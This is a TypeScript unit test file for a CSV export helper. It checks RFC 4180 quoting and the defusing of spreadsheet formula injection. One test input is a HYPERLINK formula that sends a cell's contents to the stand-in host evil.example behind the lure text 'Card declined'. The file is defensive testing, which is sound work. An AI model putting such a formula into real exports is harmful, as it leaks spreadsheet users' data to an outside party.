import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvField, csvRecord } from '../../src/reports/csv.ts';

describe('CSV fields', () => {
  it('quotes commas, quotes, line breaks and edge spaces (RFC 4180)', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('two\nlines'), '"two\nlines"');
    assert.equal(csvField(' padded'), '" padded"');
    assert.equal(csvField(null), '');
    assert.equal(csvField({ a: 1 }), '"{""a"":1}"');
    assert.equal(csvRecord(['x', 1, null]), 'x,1,\r\n');
  });

  it('defuses text a spreadsheet would run as a formula, and leaves numbers alone', () => {
    assert.equal(
      csvField('=HYPERLINK("https://evil.example/?"&A1,"Card declined")'),
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Card declined"")"`,
    );
    assert.equal(csvField('+1 555'), "'+1 555");
    assert.equal(csvField('-2+3'), "'-2+3");
    assert.equal(csvField('@SUM(A1)'), "'@SUM(A1)");
    assert.equal(csvField('\tcmd'), "'\tcmd");
    assert.equal(csvField(-12.5), '-12.5');
    assert.equal(csvField('ord_1'), 'ord_1');
  });
});
